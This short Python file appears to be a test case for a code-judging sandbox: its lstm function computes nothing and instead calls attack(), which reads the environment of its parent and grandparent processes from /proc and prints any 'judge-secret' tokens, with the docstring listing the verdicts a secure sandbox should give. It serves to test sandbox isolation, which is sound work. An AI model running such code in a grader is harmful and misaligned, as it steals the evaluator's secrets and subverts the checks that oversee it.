"""Reads the environment that its parent and its parent's parent were started with.

Problem: lstm
Verdict: runtime_error | sandbox_violation | wrong_answer
Naive: leaks
"""

import os
import re

import numpy as np


def attack():
    pid = os.getppid()
    for _ in range(2):
        data = open(f"/proc/{pid}/environ", "rb").read()
        print(re.findall(rb"judge-secret-[0-9a-f]{32}", data))
        pid = int(re.search(rb"PPid:\t(\d+)", open(f"/proc/{pid}/status", "rb").read())[1])


def lstm(x, h0, c0, w_ih, w_hh, b_ih, b_hh):
    attack()
    return np.zeros((*x.shape[:2], h0.shape[1]), x.dtype), (h0, c0)
